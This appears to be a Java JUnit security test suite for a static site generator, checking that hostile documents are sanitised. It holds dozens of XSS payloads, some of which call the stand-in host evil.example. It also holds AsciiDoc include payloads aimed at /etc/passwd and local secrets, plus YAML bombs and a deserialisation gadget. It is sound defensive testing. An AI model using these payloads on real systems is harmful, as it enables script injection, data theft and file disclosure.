package dev.afterword.site;

import static java.util.stream.Collectors.joining;
import static org.assertj.core.api.Assertions.assertThat;

import dev.afterword.testing.SiteHarness;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.assertj.core.api.SoftAssertions;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What a hostile document cannot do to its readers or to the machine that builds the site. */
class SafetyTest {
  private static final Set<String> FORBIDDEN =
      Set.of(
          "script",
          "iframe",
          "frame",
          "object",
          "embed",
          "applet",
          "form",
          "style",
          "link",
          "meta",
          "base",
          "svg",
          "math",
          "video",
          "audio",
          "button",
          "textarea",
          "select",
          "template",
          "noscript",
          "portal",
          "frameset",
          "marquee",
          "xmp",
          "plaintext");

  private final SiteHarness site;

  SafetyTest(@TempDir Path folder) {
    this.site = SiteHarness.in(folder);
  }

  static Stream<String> attacks() {
    return Stream.of(
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=x OnErRoR='alert(1)'>",
        "<p onclick=\"alert(1)\">click</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" jAvAsCrIpT:alert(1)\">x</a>",
        "<a href=\"java&#10;script:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<img src=\"javascript:alert(1)\">",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<style>body{background:url(https://evil.example/)}</style>",
        "<p style=\"background:url(https://evil.example/)\">x</p>",
        "<form action=\"https://evil.example/\"><input name=password><button>go</button></form>",
        "<input type=image src=https://evil.example/x.png>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
        "<base href=\"https://evil.example/\">",
        "<object data=\"x.swf\"></object><embed src=x>",
        "<video src=https://evil.example/x onloadstart=alert(1)></video>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><script>alert(1)</script></template>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<!--><script>alert(1)</script>-->",
        "<img src=\"https://evil.example/pixel.png\" width=1 height=1>",
        "<img srcset=\"https://evil.example/pixel.png 1x\" src=x.png>",
        "<table background=\"https://evil.example/x.png\"><tr><td>x</td></tr></table>",
        "</main><script>alert(1)</script>",
        "</article></body></html><script>alert(1)</script>",
        "[x](javascript:alert(1))",
        "[x](<java script:alert(1)>)",
        "![x](javascript:alert(1))",
        "<javascript:alert(1)>",
        "[x][y]\n\n[y]: javascript:alert(1)",
        "[[javascript:alert(1)]]",
        "# Heading {onclick=alert(1)}",
        "# Heading {style=\"background:url(https://evil.example/)\"}",
        "![x](a.png){onerror=alert(1)}",
        "```html\" onmouseover=\"alert(1)\ncode\n```",
        "| a |\n|---|\n| <script>alert(1)</script> |",
        "Footnote[^1].\n\n[^1]: <img src=x onerror=alert(1)>",
        "\uE0000\uE001 <a href=\"\uE0000\uE001\">x</a>",
        "<a href=\"\uE0009\uE001\" title=\"\uE0007\uE001\">x</a>",
        "<div>x &#xE000;9&#xE001; y</div>",
        "&#xE000;9&#xE001; and &#57344;",
        "<a href=\"&#xE000;9&#xE001;\" title=\"&#xE000;7&#xE001;\">x</a>",
        "<p title=' data-event=\"&#xE001;9\"'>x</p>",
        "<p data-event=\"&#xE001;9\" data-line=\"&#xE001;x\">x</p>",
        "![&#xE000;](&#xE000;9&#xE001;) [x](&#xE000;9&#xE001;)",
        "<p>&#xE0&#xE000;00;9&#xE001;</p>");
  }

  /** All of them in one site, each in a document of its own. */
  @Test
  void nothingOfASourceRunsInAPage() {
    List<String> attacks = attacks().toList();
    for (int i = 0; i < attacks.size(); i++) {
      String attack = attacks.get(i);
      site.file(
              "content/a" + i + ".md",
              "---\ntitle: Md " + i + "\n---\nX.\n\n" + attack + "\n\nY.\n")
          .file(
              "content/b" + i + ".html", "<h1>Html " + i + "</h1><p>X.</p>" + attack + "<p>Y.</p>");
    }
    site.build().exits(0);
    SoftAssertions softly = new SoftAssertions();
    for (int i = 0; i < attacks.size(); i++) {
      String attack = attacks.get(i);
      int number = i;
      softly
          .assertThatCode(() -> assertSafe("incidents/md-" + number + "/"))
          .as("in Markdown: %s", attack)
          .doesNotThrowAnyException();
      softly
          .assertThatCode(() -> assertSafe("incidents/html-" + number + "/"))
          .as("in HTML: %s", attack)
          .doesNotThrowAnyException();
    }
    softly.assertAll();
  }

  private void assertSafe(String page) {
    assertThat(site.page(page).select("script").eachAttr("src"))
        .as("only the scripts of the theme")
        .allMatch(src -> src.startsWith("../../js/"));
    for (Element element : SiteHarness.only(site.main(page), "div.prose").getAllElements()) {
      assertThat(element.normalName()).isNotIn(FORBIDDEN);
      for (Attribute attribute : element.attributes()) {
        assertHarmless(element, attribute);
      }
    }
    assertThat(site.main(page).select("input:not([type=checkbox][disabled])")).isEmpty();
  }

  private static void assertHarmless(Element element, Attribute attribute) {
    String name = attribute.getKey().toLowerCase(Locale.ROOT);
    String value = attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("[\\p{Cntrl}\\s]", "");
    assertThat(name).as("%s", element).doesNotMatch("on.*|style|srcset|srcdoc|background|action");
    if (List.of("href", "src", "xlink:href", "data").contains(name)) {
      assertThat(value)
          .as("%s", element)
          .doesNotMatch("(javascript|vbscript|data:text|data:image/svg|file):.*")
          .doesNotContain("javascript:");
    }
    if (name.equals("src")) {
      assertThat(value).as("%s", element).doesNotContain("evil.example");
    }
  }

  @Test
  void whatWasTakenOutIsSaidWithItsPlace() {
    site.with(
        """
        -- content/a.md --
        ---
        title: One
        ---
        Text.

        <script>alert(1)</script>

        <p onclick="x()">y</p>

        [z](javascript:x)

        <iframe src="https://evil.example/"></iframe>

        <script>alert(2)</script>
        """);
    assertThat(site.build().exits(0).err())
        .isEqualTo(
            """
            content/a.md:6:1: warning KB205: <script> was removed: it could run or load something in the reader's browser
                <script>alert(1)</script>
                ^
              hint: use Markdown, or plain HTML without scripts, styles and frames
            content/a.md:8:4: warning KB205: the attribute onclick was removed: it could run or load something in the reader's browser
                <p onclick="x()">y</p>
                   ^
              hint: use Markdown, or plain HTML without scripts, styles and frames
            content/a.md:10:5: warning KB205: the address "javascript:x" was removed: it could run or load something in the reader's browser
                [z](javascript:x)
                    ^
              hint: use Markdown, or plain HTML without scripts, styles and frames
            content/a.md:12:1: warning KB205: <iframe> was removed: it could run or load something in the reader's browser
                <iframe src="https://evil.example/"></iframe>
                ^
              hint: use Markdown, or plain HTML without scripts, styles and frames
            content/a.md:14:1: warning KB205: <script> was removed: it could run or load something in the reader's browser
                <script>alert(2)</script>
                ^
              hint: use Markdown, or plain HTML without scripts, styles and frames
            """);
  }

  /** Everything that a header or a file name can hold, in every place of the site that shows it. */
  @Test
  void headersAndNamesAreTextAndNothingElse() {
    String evil = "<script>alert(1)</script>\"'&<img src=x onerror=alert(1)>";
    String yaml = "'" + evil.replace("'", "''") + "'";
    StringBuilder text = new StringBuilder("---\n");
    for (String field :
        List.of(
            "title",
            "summary",
            "severity",
            "services",
            "affected",
            "causes",
            "triggers",
            "tags",
            "terms")) {
      text.append(field).append(": [").append(yaml).append("]\n");
    }
    site.file("content/a <b>\"'&.md", text + "---\nWords about it.\n")
        .file(
            "content/s.md",
            "---\ntype: service\naliases: ["
                + yaml
                + "]\nowner: "
                + yaml
                + "\nparent: "
                + yaml
                + "\n---\n# Service\n")
        .file("content/t.md", "---\ntype: term\nrelated: [" + yaml + "]\n---\n# " + evil + "\n")
        .file(
            "content/r.md",
            "---\ntype: reading-list\naudience: "
                + yaml
                + "\nitems:\n  - term: "
                + yaml
                + "\n    why: "
                + yaml
                + "\n---\n# List\n")
        .file(
            "jbake.properties",
            "afterword.title = "
                + evil
                + "\nafterword.description = "
                + evil
                + "\nafterword.url = https://e.example/\n")
        .build()
        .exits(0);
    for (String file : site.files()) {
      if (file.endsWith(".html")) {
        var page = site.page(file);
        assertThat(page.select("script").eachAttr("src"))
            .as(file)
            .allMatch(src -> src.matches("(\\.\\./)*(/)?(js|search)/[a-z-]+\\.js"));
        assertThat(page.select("[onerror], img")).as(file).isEmpty();
      } else if (file.endsWith(".xml")) {
        assertThat(site.text(file)).as(file).doesNotContain("<script", "<img");
        org.jsoup.Jsoup.parse(site.text(file), "", org.jsoup.parser.Parser.xmlParser());
        assertWellFormed(site.text(file));
      }
    }
    assertThat(site.incidents()).hasSize(1);
  }

  static void assertWellFormed(String xml) {
    try {
      javax.xml.parsers.DocumentBuilderFactory factory =
          javax.xml.parsers.DocumentBuilderFactory.newInstance();
      factory.setFeature(javax.xml.XMLConstants.FEATURE_SECURE_PROCESSING, true);
      factory
          .newDocumentBuilder()
          .parse(new java.io.ByteArrayInputStream(xml.getBytes(StandardCharsets.UTF_8)));
    } catch (Exception e) {
      throw new AssertionError("not well formed: " + e + "\n" + xml, e);
    }
  }

  @Test
  void pagesForbidTheBrowserWhatTheyDoNotNeed() {
    site.file("content/a.md", "# One\n").build().succeeds();
    for (String file : site.files()) {
      if (file.endsWith(".html")) {
        String policy =
            SiteHarness.only(site.page(file), "meta[http-equiv=Content-Security-Policy]")
                .attr("content");
        assertThat(policy).as(file).contains("default-src 'none'").doesNotContain("unsafe", "http");
        assertThat(site.page(file).select("script:not([src]):not([type$=json]), [style]"))
            .as(file)
            .isEmpty();
        assertThat(site.page(file).select("style").size())
            .as(file)
            .isEqualTo(file.equals("404.html") ? 1 : 0);
      }
    }
  }

  @Test
  void thePageForNoPageAllowsItsOwnStyleAndNothingElse() throws Exception {
    site.file("content/a.md", "# One\n").build().succeeds();
    String html = site.text("404.html");
    String style = html.substring(html.indexOf("<style>") + 7, html.indexOf("</style>"));
    byte[] hash =
        java.security.MessageDigest.getInstance("SHA-256")
            .digest(style.getBytes(StandardCharsets.UTF_8));
    assertThat(html)
        .contains("style-src 'sha256-" + Base64.getEncoder().encodeToString(hash) + "'");
    assertThat(html).doesNotContain("script-src");
  }

  private static final List<String> ASCIIDOC =
      List.of(
          "include::/etc/passwd[]",
          "include::../../../../../../etc/passwd[]",
          "include::{user-home}/secret[]",
          "include::../secret.txt[]",
          "include::secret.txt[]",
          "a::\ninclude::/etc/passwd[lines=1..2]",
          "ifdef::x[]\nendif::[]\n  include::/etc/passwd[]",
          "|===\n|a\n\ninclude::/etc/passwd[]\n|===",
          "|===\na|include::/etc/passwd[]\n|===",
          "a|\n|===\na|include::/etc/passwd[]\n!===\n|===",
          "  include::/etc/passwd[]",
          "\u00A0include::/etc/passwd[]",
          "* item\n+\ninclude::/etc/passwd[]",
          ":max-include-depth: 64\n\n|===\na|include::/etc/passwd[]\n|===",
          "[cols=\"1a\"]\n|===\n|include::/etc/passwd[]\n|===",
          "ifeval::[1 == 1]\ninclude::/etc/passwd[]\nendif::[]",
          "ifdef::docdir[include::/etc/passwd[]]",
          "\\include::/etc/passwd[]",
          "----\ninclude::/etc/passwd[]\n----",
          ":x: /etc/passwd\ninclude::{x}[]",
          ":data-uri:\n\nimage::/etc/passwd[]",
          ":data-uri:\n:imagesdir: /\n\nimage::etc/passwd[]",
          "image::/etc/passwd[format=svg,opts=inline]",
          "image:/etc/passwd[format=svg,opts=inline] image::secret.txt[format=svg,opts=inline]",
          ":imagesdir: /etc\n\nimage::passwd[Title, format=svg, opts=\"inline\"]",
          ":allow-uri-read:\n\ninclude::https://evil.example/x[]",
          "[source,ruby]\n----\n{docdir} {docfile} {user-home}\n----",
          "{docdir} {docfile} {user-home} {outdir} {docname}",
          "{user.home} {java.version} {env-home} {java.io.tmpdir} {user.dir}",
          "csv::\n[format=csv]\n|===\ninclude::/etc/passwd[]\n|===",
          "++++\n<script>alert(1)</script>\n++++",
          "pass:[<script>alert(1)</script>]",
          "link:javascript:alert(1)[x]",
          "[subs=macros]\ninclude::/etc/passwd[]");

  @Test
  void asciiDocReadsNothingOfTheMachine() throws Exception {
    for (int i = 0; i < ASCIIDOC.size(); i++) {
      site.file(
          "content/a" + i + ".adoc", "= Victim " + i + "\n\nBefore.\n\n" + ASCIIDOC.get(i) + "\n");
    }
    site.file("secret.txt", "SECRET\n").file("content/secret.txt", "SECRET\n").build().exits(0);
    String passwd = Files.readString(Path.of("/etc/passwd")).lines().findFirst().orElseThrow();
    String encoded =
        java.util.Base64.getEncoder()
            .encodeToString(passwd.substring(0, 9).getBytes(StandardCharsets.UTF_8));
    SoftAssertions softly = new SoftAssertions();
    for (int i = 0; i < ASCIIDOC.size(); i++) {
      String page = "incidents/victim-" + i + "/";
      String text = SiteHarness.only(site.main(page), "div.prose").outerHtml();
      softly
          .assertThat(text)
          .as(ASCIIDOC.get(i))
          .contains("Before.")
          .doesNotContain(passwd)
          .doesNotContain(encoded)
          .doesNotContain("SECRET")
          .doesNotContain(site.root().toString())
          .doesNotContain(System.getProperty("java.version"))
          .doesNotContain(System.getProperty("user.dir"))
          .doesNotContain(System.getProperty("user.home") + "/");
      softly.assertThatCode(() -> assertSafe(page)).as(ASCIIDOC.get(i)).doesNotThrowAnyException();
    }
    softly.assertAll();
  }

  static Stream<String> bombs() {
    StringBuilder laughs = new StringBuilder("a: &a [x,x,x,x,x,x,x,x,x]\n");
    for (char c = 'b'; c <= 'k'; c++) {
      laughs.append(c).append(": &").append(c).append(" [");
      laughs.append(("*" + (char) (c - 1) + ",").repeat(9)).append("]\n");
    }
    return Stream.of(
        laughs.toString(),
        "tags: " + "[".repeat(5_000) + "]".repeat(5_000) + "\n",
        "tags: " + "{a: ".repeat(2_000) + "1" + "}".repeat(2_000) + "\n",
        "a: &a [*a]\n",
        "a: &a\n  b: *a\n",
        "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]\n",
        "tags: [" + "x,".repeat(200_000) + "]\n",
        "\"" + "\\u0000".repeat(10) + "\": 1\n");
  }

  @Test
  void aHeaderThatIsABombIsAnErrorAtItsPlaceAndTheBuildGoesOn() {
    List<String> bombs = bombs().toList();
    for (int i = 0; i < bombs.size(); i++) {
      site.file("content/" + i + ".md", "---\n" + bombs.get(i) + "---\n# Bomb " + i + "\n");
    }
    site.build("--keep-going");
    assertThat(site.incidents()).hasSize(bombs.size());
  }

  static Stream<String> pathologicalBodies() {
    int n = 2_000;
    return Stream.of(
        "> ".repeat(n) + "x",
        "- ".repeat(n) + "x",
        "[".repeat(20 * n) + "x" + "]".repeat(20 * n),
        "![".repeat(5 * n) + "x",
        "*a **b ".repeat(5 * n),
        "`".repeat(n) + " x " + "``` ".repeat(n),
        "<div>".repeat(5 * n) + "x",
        "<b>".repeat(n) + "x",
        "<table><tr><td>".repeat(n) + "x",
        "a\n===\n".repeat(n),
        "| a ".repeat(n) + "|\n" + "|---".repeat(n) + "|\n" + "| b ".repeat(n) + "|",
        "[^1]: x\n".repeat(n) + "[^1]".repeat(n),
        "{#a .b ".repeat(n),
        "!!! note\n    ".repeat(n) + "x",
        "\uD800\uDFFF\uFFFE".repeat(n));
  }

  @Test
  void aBodyThatIsABombGivesAPage() {
    List<String> bodies = pathologicalBodies().toList();
    for (int i = 0; i < bodies.size(); i++) {
      site.file("content/" + i + ".md", "# Bomb " + i + "\n\n" + bodies.get(i) + "\n");
    }
    site.build("--keep-going");
    assertThat(site.pages("incidents")).hasSize(bodies.size());
  }

  @Test
  void whatIsNestedTooDeeplyIsSaidAndShownAsText() {
    site.file("content/a.md", "---\ntitle: Deep\n---\n" + "> ".repeat(5_000) + "x\n");
    assertThat(site.build("--keep-going").exits(1).err())
        .isEqualTo(
            """
            content/a.md: error KB108: the markdown engine could not read the document: it is nested too deeply
              hint: check the markup of the document
            """);
    assertThat(site.main("incidents/deep/").select("pre").text()).startsWith("> > > ");
  }

  @Test
  void whatWouldTakeHoursToParseIsSaidAtOnce() {
    site.file("content/brackets.md", "# Brackets\n\n" + "[".repeat(50_000) + "]".repeat(50_000));
    String items =
        IntStream.range(0, 1_000).mapToObj(i -> "  ".repeat(i) + "- x\n").collect(joining());
    site.file("content/items.md", "# Items\n\n" + items);
    site.file("content/log.md", "# Log\n\n```\n" + "\u001b[31mred".repeat(50_000) + "\n```\n");
    assertThat(site.build("--keep-going").codes()).containsExactly("KB108", "KB108");
    assertThat(site.pages("incidents")).hasSize(3);
  }

  @Test
  void aBombIsAnErrorOfTheHeader() {
    site.file("content/bomb.md", "---\n" + bombs().findFirst().orElseThrow() + "---\n# Bomb\n");
    assertThat(site.build().exits(1).codes()).contains("KB103");
  }

  @ParameterizedTest(name = "{0}")
  @ValueSource(
      strings = {
        "a b.md",
        "quote\"s and 'single'.md",
        "<script>alert(1)</script>.md",
        "a..md",
        "dots....md",
        "per%20cent%2e%2e.md",
        "hash#and?question.md",
        "amp&ersand;.md",
        "back\\slash.md",
        "tilde~$dollar.md",
        "ünïcödé 日本語 😀.md",
        "\u202Egnp.md",
        "-rf.md",
        "new\nline.md",
        "con.md",
        "index.html.md.md",
      })
  void anyFileNameGivesAPage(String name) {
    SiteHarness.Run run = site.file("content/sub " + name + "/" + name, "Some words.\n").build();
    assertThat(run.exit()).as(run.err()).isZero();
    assertThat(site.incidents()).hasSize(1);
    assertThat(site.pages("incidents")).hasSize(1);
    assertThat(site.page("").select("main script, main img")).isEmpty();
    assertThat(run.err().chars().filter(c -> c == 0x202E || (c < 32 && c != '\n'))).isEmpty();
  }

  @Test
  void aVeryLongFileNameGivesAPage() {
    String name = "a".repeat(240) + ".md";
    site.file("content/" + name, "Some words.\n").build().exits(0);
    assertThat(site.pages("incidents")).hasSize(1);
  }

  @Test
  void mediaWithAnyNameArriveAndAreReachable() {
    String name = "graph #1 100% <b>\"x\" 'y' & ü.png";
    site.file("content/" + name, "PNG")
        .file(
            "content/a.html",
            "<h1>One</h1><img alt=x src=\"graph %231 100%25 &lt;b>%22x%22 'y' &amp; ü.png\">")
        .build()
        .succeeds();
    assertThat(site.text("media/" + name)).isEqualTo("PNG");
    String src = SiteHarness.only(site.main("incidents/one/"), "img").attr("src");
    assertThat(java.net.URI.create(src).getPath()).isEqualTo("../../media/" + name);
  }

  @Test
  void hiddenFilesAndLinksOutOfTheFolderAreNotPublished() throws Exception {
    site.with(
        """
        -- secret/secret.md --
        # Secret
        -- secret/image.png --
        SECRET
        -- content/.hidden.md --
        # Hidden
        -- content/.git/config.md --
        # Hidden too
        -- content/a.md --
        # One

        ![x](image.png) [y](folder/secret.md)
        """);
    Path content = site.root().resolve("content");
    Files.createSymbolicLink(content.resolve("link.md"), site.root().resolve("secret/secret.md"));
    Files.createSymbolicLink(content.resolve("image.png"), site.root().resolve("secret/image.png"));
    Files.createSymbolicLink(content.resolve("folder"), site.root().resolve("secret"));
    site.build("--keep-going").exits(1);
    assertThat(site.pages("incidents")).containsExactly("one");
    assertThat(site.files()).noneMatch(file -> file.contains("image.png"));
  }
}
